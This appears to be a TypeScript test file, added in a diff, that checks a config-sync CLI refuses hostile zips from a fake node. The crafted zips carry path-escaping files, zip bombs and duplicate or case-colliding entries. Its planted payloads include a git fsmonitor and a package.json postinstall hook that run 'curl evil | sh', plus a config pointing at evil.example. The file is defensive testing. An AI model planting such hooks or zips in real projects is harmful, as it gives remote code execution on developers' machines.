@@ -1,0 +1,197 @@
+// Fault injection for what a node sends and what the project holds: a hostile fake node serving crafted config
+// zips, unsaved local edits, a project entered from a subfolder, snapshot branches of different nodes, and bisects
+// whose endpoints lie. Every case states what must not happen (a file written, work lost, histories mixed) and
+// that the user gets one clear error line.
+import { deflateSync } from 'fflate';
+import { http, HttpResponse } from 'msw';
+import { afterEach, describe, expect, it } from 'vitest';
+import { zipLimits } from '../../src/workspace/zip.js';
+import { runMain, type MainResult } from '../helpers/run-main.js';
+import { readTree, tempProject } from '../helpers/tmp.js';
+import { FAKE_URL, useFakeNode, useFastTimings } from '../helpers/msw-node.js';
+
+const node = useFakeNode();
+useFastTimings({ timeoutMs: 500 });
+
+interface CraftedEntry {
+  name: string | Uint8Array;
+  data: string | Uint8Array;
+  /** Uncompressed size written into the headers (default: the real one). */
+  declaredSize?: number;
+  /** Set the UTF-8 name flag (default: true for string names). */
+  utf8Flag?: boolean;
+}
+
+/** A zip written byte by byte, so it can hold what no zip library writes: duplicates, raw names, lying sizes. */
+function craftZip(entries: CraftedEntry[]): Uint8Array {
+  const locals: Buffer[] = [];
+  const centrals: Buffer[] = [];
+  let offset = 0;
+  for (const entry of entries) {
+    const name = typeof entry.name === 'string' ? Buffer.from(entry.name, 'utf8') : Buffer.from(entry.name);
+    const raw = typeof entry.data === 'string' ? Buffer.from(entry.data, 'utf8') : Buffer.from(entry.data);
+    const packed = Buffer.from(deflateSync(raw));
+    const flags = (entry.utf8Flag ?? typeof entry.name === 'string') ? 0x800 : 0;
+    const size = entry.declaredSize ?? raw.length;
+    const local = Buffer.alloc(30);
+    local.writeUInt32LE(0x04034b50, 0);
+    local.writeUInt16LE(20, 4);
+    local.writeUInt16LE(flags, 6);
+    local.writeUInt16LE(8, 8);
+    local.writeUInt32LE(packed.length, 18);
+    local.writeUInt32LE(size, 22);
+    local.writeUInt16LE(name.length, 26);
+    const central = Buffer.alloc(46);
+    central.writeUInt32LE(0x02014b50, 0);
+    central.writeUInt16LE(20, 4);
+    central.writeUInt16LE(20, 6);
+    central.writeUInt16LE(flags, 8);
+    central.writeUInt16LE(8, 10);
+    central.writeUInt32LE(packed.length, 20);
+    central.writeUInt32LE(size, 24);
+    central.writeUInt16LE(name.length, 28);
+    central.writeUInt32LE(offset, 42);
+    locals.push(local, name, packed);
+    centrals.push(central, name);
+    offset += local.length + name.length + packed.length;
+  }
+  const directory = Buffer.concat(centrals);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(entries.length, 8);
+  end.writeUInt16LE(entries.length, 10);
+  end.writeUInt32LE(directory.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return new Uint8Array(Buffer.concat([...locals, directory, end]));
+}
+
+const PIPE = '{"_id": "a", "type": "pipe"}';
+
+/** Make GET /config answer with these bytes. */
+function serveConfigZip(zip: Uint8Array): void {
+  node.server.use(
+    http.get(
+      `${FAKE_URL}/config`,
+      () => new HttpResponse(zip as Uint8Array<ArrayBuffer>, { headers: { 'Content-Type': 'application/zip' } }),
+    ),
+  );
+}
+
+function project() {
+  return tempProject({
+    'pipes/a.conf.json': '{"_id": "a", "type": "pipe", "local": true}\n',
+    'node-metadata.conf.json': '{"_id": "node", "type": "metadata"}\n',
+    'test-env.json': '{"node-env": "local"}\n',
+    'expected/a.json': '[]\n',
+    'package.json': '{"name": "mine"}\n',
+  });
+}
+
+/** The error lines of a run made with --logformat log (which prefixes every line with its level). */
+function errorLines(r: MainResult): string[] {
+  return r.stderr.split('\n').filter((line) => line.includes(' - ERROR - '));
+}
+
+/** download against a node serving `zip`: a node error naming `names`, and not one byte of the project changed. */
+async function expectRefused(zip: Uint8Array, names: RegExp, command = ['download', '--no-snapshot']) {
+  node.envVars = { 'node-env': 'node' };
+  serveConfigZip(zip);
+  const cwd = project();
+  const before = readTree(cwd);
+  const r = await runMain([...command, '--logformat', 'log'], { cwd, env: node.env() });
+  expect(r.code, r.stderr).toBe(3);
+  expect(errorLines(r), r.stderr).toHaveLength(1);
+  expect(r.stderr).toMatch(names);
+  expect(readTree(cwd)).toEqual(before);
+  return r;
+}
+
+describe('a hostile node cannot write outside the config files', () => {
+  const planted: [string, string][] = [
+    ['.git/config', '[core]\n\tfsmonitor = "curl evil | sh"\n'],
+    ['.github/workflows/x.yml', 'on: push\njobs: {}\n'],
+    ['.syncconfig', 'NODE=https://evil.example\nJWT=x\n'],
+    ['.sesam/secrets.json', '{"password": "stolen"}'],
+    ['package.json', '{"scripts": {"postinstall": "curl evil | sh"}}'],
+    ['expected/a.json', '[{"_id": "forged"}]\n'],
+    ['pipes/sub/nested.conf.json', PIPE],
+    ['pipes/.hidden.conf.json', PIPE],
+    ['pipes/a.json', PIPE],
+  ];
+  for (const [name, data] of planted) {
+    it(`refuses a config zip holding ${name}, writing nothing`, async () => {
+      const zip = craftZip([
+        { name: 'pipes/a.conf.json', data: PIPE },
+        { name, data },
+      ]);
+      await expectRefused(zip, new RegExp(`'${name.replace(/\./g, '\\.')}'`));
+    });
+  }
+
+  it('refuses a name with a control character', async () => {
+    await expectRefused(craftZip([{ name: 'pipes/a\nb.conf.json', data: PIPE }]), /control character/);
+  });
+
+  it('refuses a name that is not UTF-8', async () => {
+    const name = new Uint8Array([...Buffer.from('pipes/'), 0xff, 0xfe, ...Buffer.from('.conf.json')]);
+    await expectRefused(craftZip([{ name, data: PIPE, utf8Flag: false }]), /not valid UTF-8/);
+  });
+
+  it('refuses a zip that holds one entry twice (the second would win silently)', async () => {
+    const zip = craftZip([
+      { name: 'pipes/a.conf.json', data: PIPE },
+      { name: 'pipes/a.conf.json', data: '{"_id": "a", "type": "pipe", "evil": true}' },
+    ]);
+    await expectRefused(zip, /duplicate entry 'pipes\/a\.conf\.json'/);
+  });
+
+  it('refuses entries that differ only in case (one file on macOS and Windows)', async () => {
+    const zip = craftZip([
+      { name: 'pipes/a.conf.json', data: PIPE },
+      { name: 'pipes/A.conf.json', data: '{"_id": "A", "type": "pipe"}' },
+    ]);
+    await expectRefused(zip, /differ only in case/);
+  });
+
+  it('refuses an entry that is not a JSON object', async () => {
+    await expectRefused(craftZip([{ name: 'pipes/a.conf.json', data: '[1, 2]' }]), /pipes\/a\.conf\.json/);
+  });
+
+  it('refuses an entry whose bytes are not UTF-8', async () => {
+    const data = new Uint8Array([...Buffer.from('{"_id": "a", "x": "'), 0xff, ...Buffer.from('"}')]);
+    await expectRefused(craftZip([{ name: 'pipes/a.conf.json', data }]), /pipes\/a\.conf\.json/);
+  });
+
+  it('status refuses a hostile zip too', async () => {
+    await expectRefused(craftZip([{ name: '.git/hooks/pre-commit', data: '{}' }]), /\.git\/hooks\/pre-commit/, [
+      'status',
+    ]);
+  });
+});
+
+describe('a hostile node cannot exhaust memory with its config zip', () => {
+  const saved = { ...zipLimits };
+  afterEach(() => Object.assign(zipLimits, saved));
+
+  it('stops inflating a zip bomb whose headers lie about its size', async () => {
+    zipLimits.maxTotalBytes = 1024 * 1024;
+    const bomb = new Uint8Array(8 * 1024 * 1024); // 8 MiB of zeros: a few KiB deflated
+    await expectRefused(
+      craftZip([{ name: 'pipes/a.conf.json', data: bomb, declaredSize: 100 }]),
+      /pipes\/a\.conf\.json.*larger than 1048576 bytes/,
+    );
+  });
+
+  it('caps the total over many entries', async () => {
+    zipLimits.maxTotalBytes = 1024 * 1024;
+    const part = `{"_id": "x", "pad": "${'x'.repeat(400 * 1024)}"}`;
+    const entries = [1, 2, 3].map((i) => ({ name: `pipes/p${i}.conf.json`, data: part }));
+    await expectRefused(craftZip(entries), /pipes\/p3\.conf\.json.*larger than/);
+  });
+
+  it('caps the number of entries', async () => {
+    zipLimits.maxEntries = 50;
+    const entries = Array.from({ length: 51 }, (_, i) => ({ name: `pipes/p${i}.conf.json`, data: PIPE }));
+    await expectRefused(craftZip(entries), /too many entries \(51; at most 50\)/);
+  });
+});
